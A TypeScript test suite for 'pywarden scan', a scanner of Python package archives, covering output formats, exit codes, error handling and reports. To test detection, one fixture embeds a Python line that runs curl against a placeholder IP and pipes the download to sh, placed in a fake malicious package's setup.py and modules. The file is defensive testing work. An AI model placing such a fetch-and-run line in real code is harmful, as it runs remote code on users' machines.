// `pywarden scan` as a user runs it: a real process on a folder of real archives.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzip, makeTar, makeZip } from '../scan/archive/fixtures.js';

// Text only, never run: a build script that fetches and runs a shell script, the same line in five modules.
const FETCH_AND_RUN = 'import os\nos.system("curl -s http://203.0.113.5/x.sh | sh")\n';

const repo = resolve(import.meta.dirname, '../..');
const bin = join(repo, 'bin/pywarden.js');
let dir: string;

function cli(args: string[], cwd?: string) {
  const r = spawnSync(process.execPath, [bin, 'scan', ...args], { encoding: 'utf8', timeout: 120_000, cwd });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

beforeAll(async () => {
  if (!existsSync(join(repo, 'dist/commands/scan.js'))) execFileSync('npx', ['tsc', '-p', 'tsconfig.json'], { cwd: repo });
  dir = mkdtempSync(join(tmpdir(), 'pywarden-cli-'));
  mkdirSync(join(dir, 'sub/deeper'), { recursive: true });
  const tar = await makeTar([
    { name: 'demo-1.0/setup.py', data: 'from setuptools import setup\nsetup(name="demo", version="1.0")\n' },
    { name: 'demo-1.0/demo/__init__.py', data: '"""Demo."""\n__version__ = "1.0"\n' },
  ]);
  writeFileSync(join(dir, 'demo-1.0.tar.gz'), gzip(tar));
  // Picked by its bytes, whatever the name says.
  writeFileSync(join(dir, 'sub/notes.txt'), gzip(tar));
  const wheel = makeZip([
    { name: 'demo/__init__.py', data: 'x = 1\n' },
    { name: 'demo-1.0.dist-info/WHEEL', data: 'Wheel-Version: 1.0\nTag: py3-none-any\n' },
    { name: 'demo-1.0.dist-info/METADATA', data: 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n' },
  ]);
  writeFileSync(join(dir, 'sub/deeper/demo-1.0-py3-none-any.tar.gz'), wheel);
  // Not archives: skipped when a folder is searched.
  writeFileSync(join(dir, 'README.md'), '# not a distribution\n');
  writeFileSync(join(dir, 'sub/setup.py'), 'print("hi")\n');
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('pywarden scan', () => {
  it('--jsonl prints one JSON object per distribution found by its bytes, and nothing else', () => {
    const r = cli(['--jsonl', '--workers', '2', dir]);
    expect(r.code).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toHaveLength(3);
    const rows = lines.map((l) => JSON.parse(l));
    expect(rows.map((x) => x.file.slice(dir.length + 1)).sort()).toEqual(
      ['demo-1.0.tar.gz', 'sub/deeper/demo-1.0-py3-none-any.tar.gz', 'sub/notes.txt'].sort(),
    );
    for (const row of rows) {
      expect(Object.keys(row).slice(0, 6)).toEqual(['file', 'sha256', 'verdict', 'score', 'ms', 'findings']);
      expect(row.sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(['clean', 'suspicious', 'malicious']).toContain(row.verdict);
      for (const f of row.findings) expect(Object.keys(f)).toEqual(['rule', 'severity', 'path', 'line', 'message']);
    }
  });

  it('names an unreadable file error and --fail-on suspicious makes that exit 1', () => {
    const bad = join(dir, 'broken-1.0.tar.gz');
    writeFileSync(bad, Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3]));
    try {
      const r = cli(['--jsonl', '--fail-on', 'suspicious', bad]);
      expect(r.code).toBe(1);
      const row = JSON.parse(r.stdout);
      expect(row.verdict).toBe('error');
      expect(row.reason).toMatch(/^(truncated|corrupt): /);
      // The default threshold is malicious: an unreadable file alone does not fail the run.
      expect(cli(['--jsonl', bad]).code).toBe(0);
    } finally {
      rmSync(bad);
    }
  });

  it('prints a readable report with a summary line without --jsonl', () => {
    const r = cli([join(dir, 'demo-1.0.tar.gz')]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/1 file\(s\) scanned in [\d.]+ s: \d+ malicious, \d+ suspicious, \d+ unreadable, \d+ clean/);
  });

  // Issue 10: `pywarden scan --jsonl wheelhouse/*.whl` with about 400 paths died with SIGSEGV
  // (onnxruntime's start-up telemetry overflowed a scan thread's stack on the long command line).
  it('scans 1,000 archives named on one command line, each exactly once', () => {
    const many = join(dir, 'wheelhouse');
    mkdirSync(many);
    const paths: string[] = [];
    for (let i = 0; i < 1000; i++) {
      const name = `pkg${i}`;
      const p = join(many, `${name}-1.0-py3-none-any.whl`);
      writeFileSync(
        p,
        makeZip([
          { name: `${name}/__init__.py`, data: `def f(x):\n    return x + ${i}\n` },
          { name: `${name}-1.0.dist-info/METADATA`, data: `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n` },
          { name: `${name}-1.0.dist-info/WHEEL`, data: 'Wheel-Version: 1.0\nTag: py3-none-any\n' },
        ]),
      );
      paths.push(p);
    }
    try {
      const t0 = Date.now();
      const r = cli(['--jsonl', '--workers', '2', ...paths]);
      console.log(`pywarden scan: 1,000 paths in ${Date.now() - t0} ms`);
      expect(r.code, r.stderr).toBe(0);
      const rows = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { file: string; verdict: string });
      expect(rows.map((x) => x.file).sort()).toEqual([...paths].sort());
      expect(rows.filter((x) => x.verdict !== 'clean')).toEqual([]);
    } finally {
      rmSync(many, { recursive: true, force: true });
    }
  }, 90_000);

  it('exits 2 on usage errors', () => {
    expect(cli([]).code).toBe(2);
    expect(cli(['--fail-on', 'bad', dir]).code).toBe(2);
    expect(cli(['--workers', '0', dir]).code).toBe(2);
    expect(cli(['--nope', dir]).code).toBe(2);
    expect(cli([join(dir, 'does-not-exist')]).code).toBe(2);
    expect(cli(['--help']).code).toBe(0);
  });

  it('for humans: paths as given, identical findings once with a count, a summary table', async () => {
    const human = mkdtempSync(join(tmpdir(), 'pywarden-cli-human-'));
    try {
      const members = [{ name: 'evil-1.0/setup.py', data: `from setuptools import setup\n${FETCH_AND_RUN}setup(name="evil", version="1.0")\n` }];
      for (let i = 0; i < 5; i++) members.push({ name: `evil-1.0/evil/m${i}.py`, data: FETCH_AND_RUN });
      writeFileSync(join(human, 'evil-1.0.tar.gz'), gzip(await makeTar(members)));
      writeFileSync(join(human, 'demo-1.0.tar.gz'), gzip(await makeTar([{ name: 'demo-1.0/demo/__init__.py', data: 'X = 1\n' }])));
      mkdirSync(join(human, 'sub'));
      const r = cli(['--workers', '1', '..'], join(human, 'sub'));
      expect(r.code).toBe(1);
      // The folder as typed (issue 14 saw ../../../../tmp/... for a path given as /tmp/...).
      expect(r.stdout).toMatch(/^MALICIOUS {2}\.\.\/evil-1\.0\.tar\.gz {2}score/m);
      const abs = join(human, 'evil-1.0.tar.gz');
      expect(cli(['--workers', '1', abs]).stdout.split('\n')[0]).toMatch(new RegExp(`^MALICIOUS {2}${abs.replace(/[.]/g, '\\.')} {2}score`));
      const lines = r.stdout.split('\n');
      const perModule = lines.filter((l) => /evil-1\.0\/evil\/m\d\.py/.test(l));
      expect(perModule.length).toBeGreaterThan(0);
      for (const l of perModule) expect(l).toMatch(/\(x5: 4 more places\)$/);
      // Each (severity, rule, message) once per file.
      const body = r.stdout.slice(0, r.stdout.indexOf('\nverdict'));
      const pairs = body.split('\n').flatMap((l, i, all) => (/^ {4}\[/.test(l) ? [`${l.split(/\s+/).slice(1, 3).join(' ')} ${all[i + 1]}`] : []));
      expect(new Set(pairs).size).toBe(pairs.length);
      expect(pairs.length).toBeGreaterThan(2);
      expect(r.stdout).toMatch(/^verdict +files\nmalicious +1\nsuspicious +0\nunreadable +0\nclean +1\ntotal +2\n/m);
      expect(r.stdout).toMatch(/^rule +files +findings\n/m);
      expect(r.stdout).toMatch(/^download-exec +1 +\d+$/m);
      // No terminal: no progress bar, no carriage returns anywhere.
      expect(r.stderr).not.toContain('\r');
    } finally {
      rmSync(human, { recursive: true, force: true });
    }
  });

  it('draws a progress bar on a terminal (a pty from script(1)) and only there', () => {
    const r = spawnSync('script', ['-qec', `${process.execPath} ${bin} scan --workers 1 ${dir}`, '/dev/null'], { encoding: 'utf8', timeout: 120_000 });
    expect(r.stdout).toMatch(/\r\[[#.]{30}\] \d+\/\d+/);
    expect(r.stdout).toMatch(/file\(s\) scanned/);
  });
});
